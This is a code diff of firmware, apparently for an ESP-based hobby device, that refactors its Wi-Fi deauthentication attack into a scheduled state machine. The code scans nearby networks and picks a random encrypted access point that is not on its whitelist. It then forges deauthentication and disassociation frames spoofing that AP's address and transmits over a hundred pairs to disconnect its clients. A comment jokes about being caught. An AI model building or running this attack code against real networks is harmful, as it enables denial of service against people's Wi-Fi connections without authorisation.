@@ -41,8 +41,18 @@ extern "C" int ieee80211_raw_frame_sanity_check(int32_t arg, int32_t arg2,
 bool Deauth::running = false;
 std::vector<String> Deauth::whitelist = {};
 String Deauth::randomAP = "";
+hal_ap_t Deauth::ap = {};
 int Deauth::randomIndex;
 
+// attack state
+deauth_state_t Deauth::state = DEAUTH_START;
+int Deauth::frame = 0;
+int Deauth::sent = 0;
+int Deauth::packets = 0;
+int Deauth::packetCount = 0;
+unsigned long Deauth::startTime = 0;
+int64_t Deauth::scanTimer = 0;
+
 /** developer note:
  *
  * instead of using the deauth frame normally, we append information to the
@@ -109,10 +119,9 @@ void Deauth::list() {
   }
 }
 
+// pacing between frames is handled by the scheduler, see phaseInterval
 bool Deauth::send(uint8_t *buf, uint16_t len, bool sys_seq) {
-  delay(102);
-  esp_err_t err = esp_wifi_80211_tx(WIFI_IF_STA, buf, len, sys_seq);
-  return (err == ESP_OK);
+  return Hal::tx(buf, len, sys_seq);
 }
 
 // check if this is a broadcast
@@ -152,53 +161,36 @@ String Deauth::printMacStr(uint8_t *mac) {
   return macStr;
 }
 
-bool Deauth::select() {
+void Deauth::scan() {
   // reset values
   Deauth::randomAP = "";
   Deauth::randomIndex = -1;
 
   Parasite::sendDeauthStatus(START_SCAN);
 
-  // cool animation, skip if parasite mode
-  if (!Config::parasite) {
-    for (int i = 0; i < 5; ++i) {
-      Serial.println("(0-o) Scanning for APs.");
-      Display::updateDisplay("(0-o)", "Scanning  for APs.");
-      delay(Config::shortDelay);
-      Serial.println("(o-0) Scanning for APs..");
-      Display::updateDisplay("(o-0)", "Scanning  for APs..");
-      delay(Config::shortDelay);
-      Serial.println("(0-o) Scanning for APs...");
-      Display::updateDisplay("(0-o)", "Scanning  for APs...");
-      delay(Config::shortDelay);
-      Serial.println(" ");
-      delay(Config::shortDelay);
-    }
-    delay(Config::longDelay);
-  }
-
   // stop and scan
   Minigotchi::monStop();
 
-  int apCount = 0;
   // If a parasite channel is set, then we want to focus on that channel
   // Otherwise go off on our own and scan for whatever is out there
-  if (Parasite::channel > 0) {
-    apCount = WiFi.scanNetworks(false, false, Parasite::channel);
-  } else {
-    apCount = WiFi.scanNetworks();
-  }
+  // the scan runs in the background, the scheduler polls it for us
+  Deauth::scanTimer = Stats::now();
+  Hal::scanStart(Parasite::channel);
+}
 
+bool Deauth::select(int apCount) {
   if (apCount > 0 && Deauth::randomIndex == -1) {
     Deauth::randomIndex = random(apCount);
-    Deauth::randomAP = WiFi.SSID(Deauth::randomIndex);
-    uint8_t encType = WiFi.encryptionType(Deauth::randomIndex);
+    if (!Hal::scanAp(Deauth::randomIndex, Deauth::ap)) {
+      return false;
+    }
+    Deauth::randomAP = Deauth::ap.ssid;
+    uint8_t encType = Deauth::ap.encryption;
 
     Serial.print("('-') Selected random AP: ");
     Serial.println(randomAP.c_str());
     Serial.println(" ");
     Display::updateDisplay("('-')", "Selected random AP: " + randomAP);
-    delay(Config::shortDelay);
 
     if (encType == -1) {
       Serial.println(
@@ -206,7 +198,6 @@ bool Deauth::select() {
       Display::updateDisplay(
           "('-')",
           "Selected AP is not encrypted. Skipping deauthentication...");
-      delay(Config::shortDelay);
       Parasite::sendDeauthStatus(SKIPPING_UNENCRYPTED);
       return false;
     }
@@ -219,7 +210,6 @@ bool Deauth::select() {
       Display::updateDisplay(
           "('-')",
           "Selected AP is in the whitelist. Skipping deauthentication...");
-      delay(Config::shortDelay);
       Parasite::sendDeauthStatus(SKIPPING_WHITELIST);
       return false;
     }
@@ -257,11 +247,11 @@ bool Deauth::select() {
     Deauth::disassociateFrame[3] = 0x00; // duration (SDK takes care of that)
 
     // bssid
-    uint8_t *apBssid = WiFi.BSSID(Deauth::randomIndex);
+    uint8_t *apBssid = Deauth::ap.bssid;
 
     // set our mac address
     uint8_t mac[6];
-    WiFi.macAddress(mac);
+    Hal::macAddress(mac);
 
     /** developer note:
      *
@@ -275,15 +265,17 @@ bool Deauth::select() {
     std::copy(Deauth::broadcastAddr,
               Deauth::broadcastAddr + sizeof(Deauth::broadcastAddr),
               Deauth::deauthFrame + 4);
-    std::copy(apBssid, apBssid + sizeof(apBssid), Deauth::deauthFrame + 10);
-    std::copy(apBssid, apBssid + sizeof(apBssid), Deauth::deauthFrame + 16);
+    std::copy(apBssid, apBssid + sizeof(Deauth::ap.bssid),
+              Deauth::deauthFrame + 10);
+    std::copy(apBssid, apBssid + sizeof(Deauth::ap.bssid),
+              Deauth::deauthFrame + 16);
 
     std::copy(Deauth::broadcastAddr,
               Deauth::broadcastAddr + sizeof(Deauth::broadcastAddr),
               Deauth::disassociateFrame + 4);
-    std::copy(apBssid, apBssid + sizeof(apBssid),
+    std::copy(apBssid, apBssid + sizeof(Deauth::ap.bssid),
               Deauth::disassociateFrame + 10);
-    std::copy(apBssid, apBssid + sizeof(apBssid),
+    std::copy(apBssid, apBssid + sizeof(Deauth::ap.bssid),
               Deauth::disassociateFrame + 16);
 
     if (!broadcast(Deauth::broadcastAddr)) {
@@ -296,7 +288,8 @@ bool Deauth::select() {
       // reason
       Deauth::deauthFrame[24] = 0x01; // reason: unspecified
 
-      std::copy(apBssid, apBssid + sizeof(apBssid), Deauth::deauthFrame + 4);
+      std::copy(apBssid, apBssid + sizeof(Deauth::ap.bssid),
+                Deauth::deauthFrame + 4);
       std::copy(Deauth::broadcastAddr,
                 Deauth::broadcastAddr + sizeof(Deauth::broadcastAddr),
                 Deauth::deauthFrame + 10);
@@ -310,7 +303,7 @@ bool Deauth::select() {
       Deauth::disassociateFrame[2] = 0x00; // duration (SDK takes care of that)
       Deauth::disassociateFrame[3] = 0x00; // duration (SDK takes care of that)
 
-      std::copy(apBssid, apBssid + sizeof(apBssid),
+      std::copy(apBssid, apBssid + sizeof(Deauth::ap.bssid),
                 Deauth::disassociateFrame + 4);
       std::copy(Deauth::broadcastAddr,
                 Deauth::broadcastAddr + sizeof(Deauth::broadcastAddr),
@@ -321,20 +314,17 @@ bool Deauth::select() {
     }
 
     Serial.print("('-') Full AP SSID: ");
-    Serial.println(WiFi.SSID(Deauth::randomIndex));
-    Display::updateDisplay("('-')",
-                           "Full AP SSID: " + WiFi.SSID(Deauth::randomIndex));
+    Serial.println(Deauth::randomAP);
+    Display::updateDisplay("('-')", "Full AP SSID: " + Deauth::randomAP);
 
     Serial.print("('-') AP Encryption: ");
-    Serial.println(WiFi.encryptionType(Deauth::randomIndex));
-    Display::updateDisplay(
-        "('-')",
-        "AP Encryption: " + (String)WiFi.encryptionType(Deauth::randomIndex));
+    Serial.println(Deauth::ap.encryption);
+    Display::updateDisplay("('-')",
+                           "AP Encryption: " + (String)Deauth::ap.encryption);
 
     Serial.print("('-') AP RSSI: ");
-    Serial.println(WiFi.RSSI(Deauth::randomIndex));
-    Display::updateDisplay("('-')", "AP RSSI: " +
-                                        (String)WiFi.RSSI(Deauth::randomIndex));
+    Serial.println(Deauth::ap.rssi);
+    Display::updateDisplay("('-')", "AP RSSI: " + (String)Deauth::ap.rssi);
 
     Serial.print("('-') AP BSSID: ");
     printMac(apBssid);
@@ -342,15 +332,14 @@ bool Deauth::select() {
                            "AP BSSID: " + Deauth::printMacStr(apBssid));
 
     Serial.print("('-') AP Channel: ");
-    Serial.println(WiFi.channel(Deauth::randomIndex));
-    Display::updateDisplay(
-        "('-')", "AP Channel: " + (String)WiFi.channel(Deauth::randomIndex));
+    Serial.println(Deauth::ap.channel);
+    Display::updateDisplay("('-')",
+                           "AP Channel: " + (String)Deauth::ap.channel);
 
     Serial.println(" ");
-    delay(Config::longDelay);
 
     Parasite::sendDeauthStatus(PICKED_AP, Deauth::randomAP.c_str(),
-                               WiFi.channel(Deauth::randomIndex));
+                               Deauth::ap.channel);
 
     return true;
   } else if (apCount < 0) {
@@ -360,7 +349,6 @@ bool Deauth::select() {
 
     Parasite::sendDeauthStatus(DEAUTH_SCAN_ERROR);
 
-    delay(Config::shortDelay);
   } else {
     // well ur fucked.
     Serial.println("(;-;) No access points found.");
@@ -369,109 +357,184 @@ bool Deauth::select() {
 
     Parasite::sendDeauthStatus(NO_APS);
 
-    delay(Config::shortDelay);
   }
   return false;
 }
 
-void Deauth::deauth() {
-  if (Config::deauth) {
-    // select AP
-    if (Deauth::select()) {
-      if (randomAP.length() > 0) {
-        Serial.println(
-            "(>-<) Starting deauthentication attack on the selected AP...");
-        Serial.println(" ");
-        Display::updateDisplay("(>-<)", "Begin deauth-attack on AP...");
-        delay(Config::shortDelay);
-        // define the attack
-        if (!running) {
-          start();
-        } else {
-          Serial.println("('-') Attack is already running.");
+long Deauth::deauth() {
+  if (!Config::deauth) {
+    // do nothing if deauthing is disabled
+    return TASK_DONE;
+  }
+
+  switch (Deauth::state) {
+  case DEAUTH_START:
+    Deauth::scan();
+    Deauth::frame = 0;
+    Deauth::state = DEAUTH_SCANNING;
+    return Scheduler::interval();
+
+  case DEAUTH_SCANNING: {
+    int apCount = Hal::scanResult();
+
+    if (apCount == HAL_SCAN_RUNNING && !Scheduler::expired()) {
+      // cool animation while we wait, skip if parasite mode
+      if (!Config::parasite && Deauth::frame++ % 5 == 0) {
+        switch ((Deauth::frame / 5) % 4) {
+        case 0:
+          Serial.println("(0-o) Scanning for APs.");
+          Display::updateDisplay("(0-o)", "Scanning  for APs.");
+          break;
+        case 1:
+          Serial.println("(o-0) Scanning for APs..");
+          Display::updateDisplay("(o-0)", "Scanning  for APs..");
+          break;
+        case 2:
+          Serial.println("(0-o) Scanning for APs...");
+          Display::updateDisplay("(0-o)", "Scanning  for APs...");
+          break;
+        default:
           Serial.println(" ");
-          Display::updateDisplay("('-')", "Attack is already running.");
-          delay(Config::shortDelay);
+          break;
         }
+      }
+      return Scheduler::interval();
+    }
+
+    Stats::since(STAT_SCAN, Deauth::scanTimer);
+
+    // a scan cut short(budget or parasite channel change) isn't an error or a
+    // miss, it just didn't get to finish
+    if (apCount == HAL_SCAN_RUNNING) {
+      Serial.println("('-') Scan cut short, trying again next round.");
+      Serial.println(" ");
+      Hal::scanEnd();
+      Deauth::state = DEAUTH_START;
+      return TASK_DONE;
+    }
+
+    // select AP
+    if (!Deauth::select(apCount)) {
+      if (apCount == 0 || apCount == HAL_SCAN_FAILED) {
+        Epoch::track(EPOCH_MISS);
+      }
+      Hal::scanEnd();
+      Deauth::state = DEAUTH_START;
+      return TASK_DONE;
+    }
+
+    if (randomAP.length() > 0) {
+      Serial.println(
+          "(>-<) Starting deauthentication attack on the selected AP...");
+      Serial.println(" ");
+      Display::updateDisplay("(>-<)", "Begin deauth-attack on AP...");
+      // define the attack
+      if (!running) {
+        start();
+        Deauth::state = DEAUTH_ATTACKING;
+        return Scheduler::interval();
       } else {
-        // ok why did you modify the deauth function? i literally told you to
-        // not do that...
-        Serial.println("(X-X) No access point selected. Use select() first.");
-        Serial.println("('-') Told you so!");
+        Serial.println("('-') Attack is already running.");
         Serial.println(" ");
-        Display::updateDisplay("(X-X)",
-                               "No access point selected. Use select() first.");
-        delay(Config::shortDelay);
-        Display::updateDisplay("('-')", "Told you so!");
-        delay(Config::shortDelay);
-        return;
+        Display::updateDisplay("('-')", "Attack is already running.");
       }
+    } else {
+      // ok why did you modify the deauth function? i literally told you to
+      // not do that...
+      Serial.println("(X-X) No access point selected. Use select() first.");
+      Serial.println("('-') Told you so!");
+      Serial.println(" ");
+      Display::updateDisplay("(X-X)",
+                             "No access point selected. Use select() first.");
+      Display::updateDisplay("('-')", "Told you so!");
     }
-  } else {
-    // do nothing if deauthing is disabled
+
+    Hal::scanEnd();
+    Deauth::state = DEAUTH_START;
+    return TASK_DONE;
   }
+
+  case DEAUTH_ATTACKING:
+    // one deauth/disassociation pair per step until we're out of packets or
+    // time
+    if (Deauth::sent < Deauth::packetCount && !Scheduler::expired()) {
+      // room for the whole pair or we wait for the driver to catch up
+      if (Hal::txPending() > HAL_TX_RING - 2) {
+        return 1;
+      }
+
+      Deauth::sent++;
+      Deauth::attack();
+      return Scheduler::interval();
+    }
+
+    Serial.println(" ");
+    Serial.println("(^-^) Attack finished!");
+    Serial.println(" ");
+    Display::updateDisplay("(^-^)", "Attack finished!");
+    running = false;
+    Hal::scanEnd();
+    Deauth::state = DEAUTH_START;
+    return TASK_DONE;
+  }
+
+  return TASK_DONE;
 }
 
 void Deauth::start() {
   running = true;
-  int deauthFrameSize = sizeof(deauthFrame);
-  int disassociateFrameSize = sizeof(disassociateFrame);
-  int packets = 0;
-  unsigned long startTime = millis();
+  Deauth::sent = 0;
+  Deauth::packets = 0;
+  Deauth::startTime = millis();
 
   // packet calculation
   int basePacketCount = 150;
-  int rssi = WiFi.RSSI(Deauth::randomIndex);
-  int numDevices = WiFi.softAPgetStationNum();
+  int rssi = Deauth::ap.rssi;
+  int numDevices = Hal::stationCount();
 
-  int packetCount = basePacketCount + (numDevices * 10);
+  Deauth::packetCount = basePacketCount + (numDevices * 10);
   if (rssi > -50) {
-    packetCount /= 2; // strong signal
+    Deauth::packetCount /= 2; // strong signal
   } else if (rssi < -80) {
-    packetCount *= 2; // weak signal
+    Deauth::packetCount *= 2; // weak signal
   }
 
   Parasite::sendDeauthStatus(START_DEAUTH, Deauth::randomAP.c_str(),
-                             WiFi.channel(Deauth::randomIndex));
-
-  // send the deauth 150 times(ur cooked if they find out)
-  for (int i = 0; i < packetCount; ++i) {
-    if (Deauth::send(deauthFrame, deauthFrameSize, 0) &&
-        Deauth::send(disassociateFrame, disassociateFrameSize, 0)) {
-      packets++;
-      float pps = packets / (float)(millis() - startTime) * 1000;
-
-      // show pps
-      if (!isinf(pps)) {
-        Serial.print("(>-<) Packets per second: ");
-        Serial.print(pps);
-        Serial.print(" pkt/s");
-        Serial.println(" (AP:" + randomAP + ")");
-        Display::updateDisplay("(>-<)", "Packets per second: " + (String)pps +
-                                            " pkt/s" + " (AP:" + randomAP +
-                                            ")");
-      }
-    } else if (!Deauth::send(deauthFrame, deauthFrameSize, 0) &&
-               !Deauth::send(disassociateFrame, disassociateFrameSize, 0)) {
-      Serial.println("(X-X) Both packets failed to send!");
-      Display::updateDisplay("(X-X)", "Both packets failed to send!");
-    } else if (!Deauth::send(deauthFrame, deauthFrameSize, 0) &&
-               Deauth::send(disassociateFrame, disassociateFrameSize, 0)) {
-      Serial.println("(X-X) Deauthentication failed to send!");
-      Display::updateDisplay("(X-X)", "Deauth failed to send!");
-    } else if (Deauth::send(deauthFrame, deauthFrameSize, 0) &&
-               !Deauth::send(disassociateFrame, disassociateFrameSize, 0)) {
-      Serial.println("(X-X) Disassociation failed to send!");
-      Display::updateDisplay("(X-X)", "Disassoc failed to send!");
-    } else {
-      Serial.println("(X-X) Unable to calculate pkt/s!");
-      Display::updateDisplay("(X-X)", "Unable to calculate pkt/s!");
+                             Deauth::ap.channel);
+  Epoch::track(EPOCH_DEAUTH);
+}
+
+// send the deauth 150 times(ur cooked if they find out), one pair at a time
+void Deauth::attack() {
+  bool deauthSent = Deauth::send(deauthFrame, sizeof(deauthFrame), 0);
+  bool disassociateSent =
+      Deauth::send(disassociateFrame, sizeof(disassociateFrame), 0);
+
+  if (deauthSent && disassociateSent) {
+    Deauth::packets++;
+    float pps = Deauth::packets / (float)(millis() - Deauth::startTime) * 1000;
+
+    // show pps
+    if (!isinf(pps)) {
+      Serial.print("(>-<) Packets per second: ");
+      Serial.print(pps);
+      Serial.print(" pkt/s");
+      Serial.println(" (AP:" + randomAP + ")");
+      Display::updateDisplay("(>-<)", "Packets per second: " + (String)pps +
+                                          " pkt/s" + " (AP:" + randomAP + ")");
     }
+    return;
   }
 
-  Serial.println(" ");
-  Serial.println("(^-^) Attack finished!");
-  Serial.println(" ");
-  Display::updateDisplay("(^-^)", "Attack finished!");
-  running = false;
+  Epoch::track(EPOCH_MISS);
+  if (!deauthSent && !disassociateSent) {
+    Serial.println("(X-X) Both packets failed to send!");
+    Display::updateDisplay("(X-X)", "Both packets failed to send!");
+  } else if (!deauthSent) {
+    Serial.println("(X-X) Deauthentication failed to send!");
+    Display::updateDisplay("(X-X)", "Deauth failed to send!");
+  } else {
+    Serial.println("(X-X) Disassociation failed to send!");
+    Display::updateDisplay("(X-X)", "Disassoc failed to send!");
+  }
 }